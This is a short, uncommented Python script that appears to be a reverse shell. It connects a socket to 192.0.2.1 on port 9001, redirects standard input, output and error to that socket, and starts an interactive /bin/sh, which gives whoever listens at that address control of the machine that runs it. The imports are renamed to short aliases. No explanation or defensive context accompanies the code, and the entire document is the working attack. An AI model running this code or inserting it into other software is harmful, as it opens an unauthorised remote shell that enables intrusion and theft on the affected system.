from socket import socket as S
from os import dup2 as d
import subprocess as sp
c = S()
c.connect(("192.0.2.1", 9001))
[d(c.fileno(), i) for i in range(3)]
sp.call(["/bin/sh", "-i"])
